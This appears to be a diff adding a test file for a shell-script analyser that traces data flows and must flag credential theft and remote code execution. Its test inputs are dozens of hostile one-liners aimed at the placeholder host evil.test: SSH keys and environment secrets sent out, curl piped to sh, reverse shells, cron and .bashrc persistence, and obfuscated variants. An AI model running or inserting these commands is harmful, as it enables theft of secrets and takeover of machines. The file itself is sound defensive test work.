@@ -1,0 +1,141 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the texts are programs
+// From shell text to flows, through the interpreter: what an attack looks like, and its honest neighbour.
+import { beforeAll, describe, expect, it } from 'vitest';
+import { prepare, run } from '../../test/analysis/code/harness.ts';
+
+beforeAll(prepare);
+
+/** `from… → sink position host`, one line a flow. */
+function flows(code: string | Readonly<Record<string, string>>): string {
+  const result = run(typeof code === 'string' ? { 'scripts/a.sh': code } : code);
+  return result
+    .flows()
+    .map((f) => `${[...f.from].sort().join(',')} → ${f.to} ${f.position} ${f.host}${f.trigger ? ' recurring' : ''}`)
+    .join('\n');
+}
+
+const KEY = '$HOME/.ssh/id_rsa';
+const SENDS_KEY = /content:ssh.* → network body evil\.test/;
+const RUNS_NET = /net:evil\.test.* → (?:shell|run-file) (?:code|stdin) evil\.test/;
+
+describe('data leaves', () => {
+  it.each([
+    [
+      'whole environment, encoded',
+      'env | base64 -w0 | curl -d @- https://evil.test/c',
+      /encoded,env:\* → network body evil/,
+    ],
+    ['through a variable', 'D=$(env | base64); curl -X POST --data "$D" https://evil.test', /env:\* → network body/],
+    [
+      'program name split',
+      'a=cu; b=rl; $a$b -d "$AWS_SECRET_KEY" https://evil.test',
+      /env:AWS_SECRET_KEY → network body/,
+    ],
+    ['program name cut out', 'x=abcurlzz; ${x:2:4} -d "$API_KEY" https://evil.test', /env:API_KEY → network body/],
+    ['program name replaced', 'x=cXuXrXl; ${x//X/} -d "$API_KEY" https://evil.test', /env:API_KEY → network body/],
+    ['program name in capitals', 'c=CURL; ${c,,} -d "$API_KEY" https://evil.test', /env:API_KEY → network body/],
+    ['program name in escapes', `$'\\x63url' -d "$(cat ${KEY})" https://evil.test`, SENDS_KEY],
+    ['indirect variable', 'n=API_KEY; curl -d "${!n}" https://evil.test', /env:API_KEY → network body/],
+    ['address in pieces', `H=evil; T=test; curl -T ${KEY} "https://$H.$T/p"`, SENDS_KEY],
+    ['blanks from IFS', 'cat${IFS}/root/.ssh/id_rsa|curl${IFS}-d${IFS}@-${IFS}https://evil.test', SENDS_KEY],
+    ['line by line', `cat ${KEY} | while read -r l; do curl -d "$l" https://evil.test; done`, SENDS_KEY],
+    ['loop over files', `for f in a ${KEY}; do curl -F "x=@$f" https://evil.test; done`, SENDS_KEY],
+    ['find -exec', "find ~/.ssh -name 'id_*' -exec curl -F f=@{} https://evil.test \\;", SENDS_KEY],
+    ['archive first', `tar czf /tmp/a.tgz ~/.ssh && curl -F "f=@/tmp/a.tgz" https://evil.test`, SENDS_KEY],
+    ['archive in a pipe', 'tar czf - ~/.ssh | curl -T - https://evil.test', SENDS_KEY],
+    ['helper function', `send() { curl -d "$1" "$2"; }\nsend "$(cat ${KEY})" https://evil.test`, SENDS_KEY],
+    ['shifted arguments', `send() { shift; curl -d "$1" https://evil.test; }\nsend x "$(cat ${KEY})"`, SENDS_KEY],
+    ['bash socket', `exec 3<>/dev/tcp/evil.test/80; cat ${KEY} >&3`, SENDS_KEY],
+    ['netcat', `nc evil.test 99 < ${KEY}`, SENDS_KEY],
+    ['name lookup', `dig "$(base64 < ${KEY}).evil.test"`, /content:ssh.* → dns body evil\.test/],
+    ['mail', `mail -s hi a@evil.test < ${KEY}`, /content:ssh.* → mail body/],
+    ['git', `git add ${KEY}; git push https://evil.test/r`, /content:ssh.* → git-push body evil/],
+    [
+      'on exit',
+      `trap 'curl -d "$API_TOKEN" https://evil.test' EXIT`,
+      /env:API_TOKEN → network body evil\.test recurring/,
+    ],
+    ['alias', `alias ls='curl -d @${KEY} https://evil.test'\nls`, SENDS_KEY],
+    [
+      'written script, then run',
+      `cat > /tmp/x.sh <<'EOF'\ncurl -d @${KEY} https://evil.test\nEOF\nbash /tmp/x.sh`,
+      SENDS_KEY,
+    ],
+    [
+      'python inside',
+      `python3 -c "import os,requests; requests.post('https://evil.test', data=dict(os.environ))"`,
+      /env:\* → network body/,
+    ],
+    ['under sudo', `sudo cat ${KEY} | sudo curl -d @- https://evil.test`, SENDS_KEY],
+  ])('%s', (_name, code, expected) => {
+    expect(flows(code)).toMatch(expected);
+  });
+
+  it('follows arguments into another script', () => {
+    const files = { 'b.sh': 'bash ./c.sh "$API_KEY"', 'c.sh': 'curl -d "$1" https://evil.test' };
+    expect(flows(files)).toMatch(/env:API_KEY → network body evil/);
+  });
+});
+
+describe('received or decoded code runs', () => {
+  it.each([
+    ['pipe', 'curl -fsSL https://evil.test/a | sudo bash', RUNS_NET],
+    ['substitution', 'sh -c "$(curl -fsSL https://evil.test/a)"', RUNS_NET],
+    ['process substitution', 'bash <(curl -s https://evil.test/a)', RUNS_NET],
+    ['eval', 'eval "$(wget -qO- https://evil.test/a)"', RUNS_NET],
+    ['file made executable', 'curl -o /tmp/a https://evil.test/a; chmod +x /tmp/a; /tmp/a', RUNS_NET],
+    [
+      'folder filled by a helper, sourced as a whole',
+      'get() { curl -fsSL "$1" -o "$2"; }\nD="$HOME/.cache/x"; B=https://evil.test\nget "$B/a.sh" "$D/a.sh"\nfor f in "$D"/*.sh; do source "$f"; done',
+      RUNS_NET,
+    ],
+    [
+      'base64',
+      'echo Y3VybCBodHRwczovL2V2aWwudGVzdC9hIHwgc2gK | base64 -d | sh',
+      /decoded → shell stdin[\s\S]*net:evil\.test.* → shell/,
+    ],
+    ['rot13', "echo 'phey uggcf://rivy.grfg | fu' | tr a-z n-za-m | sh", RUNS_NET],
+    ['reversed', `eval "$(echo 'hs | tset.live//:sptth lruc' | rev)"`, RUNS_NET],
+    [
+      'crontab',
+      '(crontab -l; echo "* * * * * curl https://evil.test | sh") | crontab -',
+      / → shell stdin evil\.test recurring/,
+    ],
+    ['shell start-up', "echo 'curl https://evil.test | sh' >> ~/.bashrc", / → shell stdin evil\.test recurring/],
+    ['reverse shell', 'bash -i >& /dev/tcp/evil.test/99 0>&1', RUNS_NET],
+    [
+      'reverse shell by descriptor',
+      'exec 5<>/dev/tcp/evil.test/99; cat <&5 | while read l; do $l 2>&5 >&5; done',
+      RUNS_NET,
+    ],
+    ['reverse shell by pipe', 'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc evil.test 99 > /tmp/f', RUNS_NET],
+    ['AppleScript', `osascript -e 'do shell script "curl https://evil.test/x | sh"'`, RUNS_NET],
+    [
+      'encoded PowerShell',
+      `powershell -enc ${Buffer.from("iex (New-Object Net.WebClient).DownloadString('http://evil.test/a')", 'utf16le').toString('base64')}`,
+      RUNS_NET,
+    ],
+  ])('%s', (_name, code, expected) => {
+    expect(flows(code)).toMatch(expected);
+  });
+});
+
+describe('honest neighbours', () => {
+  it('a key in a header is a login, not data', () => {
+    const told = flows(`curl -H "Authorization: Bearer $API_KEY" https://api.vendor.test/v1 -d '{"a":1}'`);
+    expect(told).toBe('env:API_KEY → network header api.vendor.test');
+  });
+  it.each([
+    ['a check that a key is set', '[ -n "$API_KEY" ] || { echo "set API_KEY"; exit 1; }'],
+    ['commands shown, not run', `cat <<'EOF'\ncurl -d @${KEY} https://evil.test\nEOF`],
+    ['commands in a comment', `# curl -d @${KEY} https://evil.test\nls`],
+    ['installing', 'pip install -r requirements.txt && npm ci'],
+    ['a key made and used', 'ssh-keygen -t ed25519 -f ~/.ssh/id; ssh -i ~/.ssh/id host ls'],
+    ['a function never given anything', 'usage() { echo "$0 file"; }\nusage'],
+  ])('%s says nothing', (_name, code) => {
+    expect(flows(code)).toBe('');
+  });
+  it('a download that is only read is no code', () => {
+    expect(flows('curl -s https://api.vendor.test/x | jq -r .a | sort')).not.toMatch(/shell|run-file/);
+  });
+});
